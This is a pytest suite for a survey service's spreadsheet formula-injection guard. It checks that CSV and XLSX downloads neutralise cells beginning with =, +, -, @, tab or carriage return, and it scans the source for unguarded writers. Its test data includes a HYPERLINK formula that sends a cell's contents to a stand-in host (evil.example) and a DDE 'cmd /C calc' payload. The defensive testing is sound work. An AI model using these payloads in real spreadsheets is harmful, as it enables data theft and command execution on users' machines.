"""No file the service writes runs as a spreadsheet formula (analysis/spreadsheet_cells.py).

Three layers: the guard itself; every download, filled with hostile text where people type
(free text, a focus group's team, an action, a theme's name), read back cell by cell; and the
source, so that a new CSV or XLSX writer cannot skip the guard.
"""

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest

from analysis.redaction import redact
from analysis.spreadsheet_cells import FORMULA_STARTS, guarded, read_cell
from healthcheck.extensions import db
from healthcheck.models import Action, FocusGroup, FocusGroupNote
from tests.reports.seeding import seed

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/x?"&B2,"Click for details")'
HOSTILE = [HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE + ["\uff1d1+1", "'=already quoted"])
def test_the_guard_makes_text_inert_and_can_be_undone(value):
    cell = guarded(value)
    assert cell.startswith("'")
    assert read_cell(cell) == value


@pytest.mark.parametrize("value", ["-3", "+4.5", "12", "1e3", "Fine", "", "a=b", None, 7, -2.5])
def test_numbers_and_plain_text_are_left_alone(value):
    assert guarded(value) == value


def _risky(cell) -> bool:
    if not isinstance(cell, str) or not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


def test_every_download_is_inert(app, psw_client, psw):
    texts = tuple(f"{h} because caseloads are far too high" for h in HOSTILE) + tuple(HOSTILE)
    about = lambda i: {"about_role": "social_worker"}  # noqa: E731 - one large group: quotable
    cycle = seed(40, "inert", about=about, texts=texts, status="closed")
    group = FocusGroup(
        cycle_id=cycle.id, instrument_id="appendix5", instrument_version=1,
        held_on=date(2026, 1, 10), team="=1+1 Team", participants=12,
        key_quotes=HYPERLINK, summary="\t=cmd",
    )  # fmt: skip
    group.notes = [FocusGroupNote(key="Q2", text="@SUM(1)")]
    db.session.add(group)
    db.session.add(Action(cycle_id=cycle.id, area="workload", action="=1+2", owner="+Team"))
    db.session.commit()

    files = {}
    for name in ("figures.csv", "themes.csv", "figures.xlsx", "self-assessment.pdf"):
        response = psw_client.get(f"/reports/{cycle.id}/download/{name}")
        assert response.status_code == 200, name
        files[name] = response.data
    files["responses.csv"] = psw_client.get(f"/exports/{cycle.id}/responses.csv").data
    files["focus-group-notes.csv"] = psw_client.get("/focus-groups/export.csv").data

    seen = set()
    for name, data in files.items():
        if name.endswith(".pdf"):
            continue
        cells = _xlsx_cells(data) if name.endswith(".xlsx") else _csv_cells(data)
        risky = [c for c in cells if _risky(c)]
        assert not risky, (name, risky[:3])
        seen.update(read_cell(c) for c in cells if isinstance(c, str))
    # The hostile text did reach the files (so the test looked at something), guarded; free
    # text as redaction leaves it (its web address is one).
    assert redact(HYPERLINK) in seen and "=1+1 Team" in seen and "=1+2" in seen


def test_the_anonymised_export_guards_a_leading_tab_or_carriage_return(app, psw_client, psw):
    """Free text that starts with a tab or a carriage return (then a formula) reaches the
    anonymised response export guarded, and reads back exactly as it was typed."""
    texts = ("\t=1+1 tab first", "\r=1+1 return first")
    about = lambda i: {"about_role": "social_worker"}  # noqa: E731 - one large group: quotable
    cycle = seed(30, "inert-export", about=about, texts=texts, status="closed")
    response = psw_client.get(f"/exports/{cycle.id}/responses.csv")
    assert response.status_code == 200
    cells = [c for c in _csv_cells(response.data) if "first" in c]
    assert cells and not [c for c in cells if _risky(c)]
    assert {read_cell(c) for c in cells} == set(texts)
    assert all(c.startswith("'") for c in cells)


def test_access_code_csv_is_written_through_the_guard(app, tmp_path):
    from healthcheck.commands.cycles import access_codes_group
    from healthcheck.survey.cycles import create_cycle

    create_cycle(
        name="Codes", slug="codes", opens_on=date(2026, 1, 5), closes_on=date(2026, 3, 27),
        access_mode="codes",
    )  # fmt: skip
    out = tmp_path / "codes.csv"
    result = app.test_cli_runner().invoke(
        access_codes_group, args=["generate", "--cycle", "codes", "--count", "3", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert not [c for c in _csv_cells(out.read_bytes()) if _risky(c)]


def _python_files():
    for folder in ("healthcheck", "analysis", "surveys"):
        yield from (ROOT / folder).rglob("*.py")


def test_no_csv_or_xlsx_writer_skips_the_guard():
    """Every CSV writer comes from spreadsheet_cells; every XLSX row goes through guarded_row."""
    problems = []
    for path in _python_files():
        if path.name == "spreadsheet_cells.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        uses_openpyxl = "openpyxl" in path.read_text(encoding="utf-8")
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            where = f"{path.relative_to(ROOT)}:{node.lineno}"
            owner = node.func.value
            if (
                isinstance(owner, ast.Name)
                and owner.id == "csv"
                and node.func.attr in ("writer", "DictWriter")
            ):
                problems.append(f"{where}: csv.{node.func.attr} without the guard")
            sheet = isinstance(owner, ast.Name) and ("sheet" in owner.id or owner.id == "ws")
            if uses_openpyxl and sheet and node.func.attr == "append":
                arg = node.args[0] if node.args else None
                guarded_call = (
                    isinstance(arg, ast.Call)
                    and isinstance(arg.func, ast.Name)
                    and arg.func.id == "guarded_row"
                )
                if not guarded_call:
                    problems.append(f"{where}: a sheet row without guarded_row")
            if uses_openpyxl and node.func.attr == "cell":
                problems.append(f"{where}: a sheet cell written without the guard")
    assert not problems, problems
